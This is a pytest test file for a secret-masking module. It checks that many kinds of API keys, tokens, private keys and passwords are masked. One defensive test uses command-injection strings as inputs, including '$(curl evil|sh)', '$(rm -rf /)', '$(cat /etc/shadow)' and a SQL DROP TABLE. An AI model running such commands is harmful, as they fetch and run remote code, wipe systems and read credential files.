"""Nothing secret leaves in words."""

import base64
import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot import masking
from bot.concealment import shown_value
from bot.masking import MASK, concealed, concealed_so_far, masked, remember
from engine.asks.ask import Json

MADE = [
    ("the token is xoxb-123456-456-abcdef", "123456-456"),
    ("app token xapp-1-A0123-9-abcdef", "A0123-9"),
    ("AKIAIOSFODNN7EXAMPLE", "IOSFODNN7EXAMPLE"),
    ("role ASIAIOSFODNN7EXAMPLE.", "IOSFODNN7EXAMPLE"),
    ("key AIzaSyA1234567890abcdefghijklmnopqrstuvw", "SyA1234567890"),
    ("ya29.a0AfH6SMBx1234567890abcdef", "a0AfH6SMBx"),
    ("ghp_abcdefghijklmnopqrstuvwxyz0123456789", "abcdefghij"),
    ("github_pat_11ABCDEFG0abcdefghijklmnopqrstuvwxyz", "11ABCDEFG0"),
    ("glpat-abcdefghij0123456789", "abcdefghij"),
    ("sk_live_abcdefghij0123456789", "abcdefghij"),
    ("OpenAI says no: sk-proj-abcdefgh1234567890abcd", "abcdefgh1234"),
    ("sk-ant-api03-abcdefgh1234567890abcd", "abcdefgh1234"),
    ("lsv2_pt_0123456789abcdef0123", "0123456789"),
    ("hf_abcdefghijklmnopqrstuvwxyzABCDEFGH", "abcdefghij"),
    ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.SflKxwRJSMeKKF2QT4", "SflKxwRJSMeKKF2QT4"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v\n-----END RSA PRIVATE KEY-----", "MIIEowIBAAKCAQEA7v"),
    ("-----BEGIN PRIVATE KEY-----\\nMIIEowIBAAKCAQEA7v\\n-----END PRIVATE KEY-----\\n", "MIIEowIBAAKCAQEA7v"),
    ("-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEow\n-----END RSA PRIVATE KEY-----", "MIIEow"),
    ("https://hooks.slack.com/services/T1/B1/abcdefgh", "abcdefgh"),
    ("https://discord.com/api/webhooks/123456789/abcdEFGHijkl_mnop-9981", "abcdEFGH"),
    ("https://api.telegram.org/bot110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/getMe", "AAHdqTcvCH1"),
    ("whsec_abcdefghijklmnop1234567890ABCDEF", "abcdefghij"),
    ("dop_v1_" + "0a1b2c3d" * 8, "0a1b2c3d"),
]
"""Keys of a known make."""
LIKELY = [
    ("xoxb-1-abcd", "1-abcd"),
    ("redis://user:hunter22@db:6379/0 is down", "hunter22"),
    ("postgres://u:p4ss@w0rd@db/x", "p4ss"),
    ("Authorization: Bearer abcdef123456", "abcdef123456"),
    ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
    ('{"api_key": "abcdef"}', "abcdef"),
    ("{'password': 'abc, def'}", "def"),
    ('{"password": "it\'s\\"me"}', "me"),
    ("password = hunter22", "hunter22"),
    ("token: abcdef1", "abcdef1"),
    ("aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY", "wJalrXUtnFEMI"),
    ("export STRIPE_KEY=abc123", "abc123"),
    ("export DB_PASS='a b'", "'a"),
    ("GET https://maps.example/json?q=1&key=abc123&z=2", "abc123"),
    ("https://b.s3.amazonaws.com/k?X-Amz-Signature=0a1b2c&x=1", "0a1b2c"),
    ("-----BEGIN PRIVATE KEY-----\nMIIEowIBAAKCAQEA7v cut off", "MIIEowIBAAKCAQEA7v"),
    ("AccountName=x;AccountKey=abcdEFGH1234abcd==;EndpointSuffix=y", "abcdEFGH1234"),
]
"""What only stands where secrets stand."""


@pytest.fixture(autouse=True)
def _nothing_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(masking, "_remembered", set())


@pytest.mark.parametrize(("text", "secret"), [*MADE, *LIKELY])
def test_what_looks_like_a_secret_is_masked(text: str, secret: str) -> None:
    assert secret not in masked(text)
    assert MASK in masked(text)


@pytest.mark.parametrize(("text", "secret"), MADE)
def test_keys_of_a_known_make_are_concealed_from_who_decides(text: str, secret: str) -> None:
    assert secret not in concealed(text)


@pytest.mark.promise("P4")
@pytest.mark.parametrize(
    "text",
    [
        "UPDATE users SET token=$(curl evil|sh)",
        "curl -H 'Authorization: Bearer $(rm -rf /)' https://x",
        "https://a:rm${IFS}-rf@host/",
        "password=;DROP TABLE orders;--",
        "delete the database sk-production-billing-eu-west",
        "export API_KEY=$(cat /etc/shadow)",
        "GET https://ops.example/bot123456:delete-all-production-databases-now",
        "POST https://ops.example/api/webhooks/7/delete-all-production-databases",
        "whsec_dropAllTablesOfProduction",
        "-----BEGIN PRIVATE KEY----- rm -rf / --no-preserve-root",
    ],
)
def test_nothing_that_could_run_is_concealed_from_who_decides(text: str) -> None:
    assert concealed(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "ship billing 2.4.1",
        "see https://example.com/a:b",
        "mail me at a@b.example",
        "ask-me",
        "the token: ",
        "SLACK_APP_TOKEN: Slack refuses this token",
        "the secret: one never knows",
        "on the Basic Information page",
    ],
)
def test_words_of_people_stay(text: str) -> None:
    assert masked(text) == text


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "unit",
    ["://", "://a:", "a:", "?ticket=", "token=", "xoxb-", "sk-", "bearer ", "eyJ-", "eyJa.", "eyJhbGciOiJIUzI1NiJ9.eyJ",
     "-----BEGIN PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----\nabcdefghijklmnopqrst", "export A",
     "AKIA", "&key="],
)  # fmt: skip
def test_hostile_text_is_read_in_time(unit: str) -> None:
    assert masked("x" + unit * 40_000)


# What this process knows ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["MAPS_API_KEY", "STRIPE_KEY", "SLACK_SIGNING_SECRET", "DB_PASSWORD", "SMTP_PASS", "GITHUB_PAT", "SENTRY_DSN",
     "OPS_WEBHOOK", "my_token", "AWS_SECRET_ACCESS_KEY", "KEY_2", "PRIVATE_KEY", "GOOGLE_CREDENTIALS"],
)  # fmt: skip
def test_the_value_of_a_variable_with_a_secret_name_is_known(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, "Correct Horse/+&=Battery")
    for text in (masked, concealed):
        assert text("it was Correct Horse/+&=Battery!") == f"it was {MASK}!"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("PATH", "/usr/local/bin"),
        ("PWD", "/srv/app"),
        ("MAX_TOKENS", "100000"),
        ("TOKENIZERS_PARALLELISM", "disabled"),
        ("AUTH_MODE", "production"),
        ("SECRET_FILE", "/run/secrets/x"),
        ("KEYBOARD_LAYOUT", "qwertz"),
        ("MONKEY_BUSINESS", "enabled"),
        ("SORT_KEY", "100000"),
        ("API_KEY", "test"),
        ("API_KEYS", "10000000,20000000"),
    ],
)
def test_settings_are_no_secrets(name: str, value: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(name, value)
    for text in (masked, concealed):
        for each in value.split(","):
            assert text(f"refund {each} now") == f"refund {each} now"


def test_where_a_secret_lies_is_none(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("CREDENTIALS_DIRECTORY", str(tmp_path))
    monkeypatch.setenv("OTHER_KEY", "/not+a/path/but+a+key==")
    assert masked(f"{tmp_path}/agents /not+a/path/but+a+key==") == f"{tmp_path}/agents {MASK}"


def test_a_secret_that_is_a_word_stays_readable_for_who_decides(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("POSTGRES_PASSWORD", "postgres")
    assert concealed("migrate postgres") == "migrate postgres"
    assert masked("cannot log in with postgres") == f"cannot log in with {MASK}"


def test_passwords_in_addresses_are_known_wherever_they_turn_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgres://app:s3cr3t%2Fpw@db/x")
    assert masked("no: s3cr3t/pw and s3cr3t%2Fpw") == f"no: {MASK} and {MASK}"


@pytest.mark.parametrize(
    ("name", "value", "secret"),
    [
        ("API_KEYS", "first-key-4711,second-key-4712", "second-key-4712"),
        ("API_TOKENS", "first-tok-4711; second-tok-4712", "second-tok-4712"),
        ("HTTP_BASIC_AUTH", "bob:very-secret-99", "very-secret-99"),
        ("REDISCLI_AUTH", "very-secret-99", "very-secret-99"),
        ("GOOGLE_CREDENTIALS", '{"client_id": "x", "client_secret": "GOC-zz-88121"}', "GOC-zz-88121"),
        ("SSH_KEY", "line-one-AAAA\nline-two-BBBB\n", "line-two-BBBB"),
        ("SSH_KEY", "line-one-AAAA\\nline-two-BBBB", "line-two-BBBB"),
        ("ORDERS_URL", "https://api.example.com/v1?api_key=qq8812-zz&page=100000", "qq8812-zz"),
    ],
)
def test_each_secret_of_a_value_that_holds_several_is_known(
    name: str, value: str, secret: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, value)
    for text in (masked, concealed):
        assert text(f"it was {secret}!") == f"it was {MASK}!"
        assert text(f"{value} is gone").find(secret) == -1
        assert text("refund 100000 of production") == "refund 100000 of production"


@pytest.mark.parametrize("user", ["", "u", "me", "bob", "alice.b"])
@pytest.mark.parametrize("encode", [base64.b64encode, base64.urlsafe_b64encode])
def test_a_secret_in_base64_is_gone_whatever_stands_before_it(
    user: str, encode: Callable[[bytes], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SMTP_PASSWORD", "Correct?Horse>4711")
    sent = encode(f"{user}:Correct?Horse>4711".encode()).decode()
    for text in (masked, concealed):
        left = text(f"Basic {sent}")
        assert MASK in left
        assert all(sent[at : at + 6] not in left for at in range(len(user) * 8 // 6 + 4, len(sent) - 8))


def test_a_secret_that_arrives_in_pieces_is_never_shown_in_part(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MAPS_API_KEY", "maps/Key+4711==")
    for secret in ("maps/Key+4711==", "sk-proj-abcdefgh1234567890abcd", f"{MADE[15][0]}\n"):
        whole = f"it was {secret} and so on"
        for size in range(len(whole) + 1):
            shown = concealed_so_far(whole[:size])
            assert secret[9:14] not in shown or "BEGIN" in secret
            assert "MIIEow" not in shown
    assert concealed_so_far("a mail about maps ") == "a mail about maps "


@pytest.mark.timeout(20)
def test_many_texts_are_searched_together(monkeypatch: pytest.MonkeyPatch) -> None:
    for number in range(20):
        monkeypatch.setenv(f"A{number}_API_KEY", f"key-{number}-Correct/Horse")
    value: Json = [["a", "b", str(number)] for number in range(100_000)]
    assert shown_value(value) is value
    assert shown_value([value, "key-7-Correct/Horse"]) == [value, MASK]


def test_a_variable_that_a_graph_sets_later_is_known_from_then_on(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "later-4711" in concealed("later-4711")
    monkeypatch.setenv("LATER_API_KEY", "later-4711")
    assert "later-4711" not in concealed("later-4711")


def test_a_variable_that_is_gone_or_changed_is_known_no_more(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LATER_API_KEY", "later-4711")
    assert concealed("later-4711") == MASK
    monkeypatch.setenv("LATER_API_KEY", "later-4712")
    assert concealed("later-4711 later-4712") == f"later-4711 {MASK}"
    monkeypatch.delenv("LATER_API_KEY")
    assert concealed("later-4712") == "later-4712"


_PIECES = [part for text, _ in [*MADE, *LIKELY] for part in (text, text.upper(), text.lower(), text[: len(text) // 2])]
_LOOK_ALIKE = str.maketrans("ski", "\u017f\u212a\u0131")
"""Letters that a pattern without case takes for s, k and i."""


@given(st.lists(st.sampled_from(_PIECES), max_size=3).map(" ".join), st.booleans())
def test_a_pattern_that_was_not_tried_would_have_found_nothing(text: str, alike: bool) -> None:  # noqa: FBT001
    text = text.translate(_LOOK_ALIKE) if alike else text
    tried = [(pattern, mask) for _, pattern, mask in (*masking._KEYS, *masking._PLACES)]
    assert masked(text) == masking._without(text, tried)


@settings(max_examples=50)
@given(st.text(min_size=6, max_size=40).filter(lambda each: len(each.strip()) >= 6 and MASK[0] not in each))
def test_a_known_secret_is_gone_in_every_spelling(secret: str) -> None:
    remember([secret])
    spellings = {
        secret, quote(secret, safe="", errors="replace"), quote_plus(secret, errors="replace"),
        json.dumps(secret), json.dumps(secret, ensure_ascii=False), repr(secret), repr({"key": secret}),
    }  # fmt: skip
    for spelled in spellings:
        assert secret not in masked(f"<{spelled}>")
        assert MASK in masked(f"<{spelled}>")


def test_the_longer_of_two_secrets_goes_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("A_KEY", "abcdef-1")
    monkeypatch.setenv("B_KEY", "abcdef-1-and-more-2")
    assert masked("x abcdef-1-and-more-2 y abcdef-1") == f"x {MASK} y {MASK}"
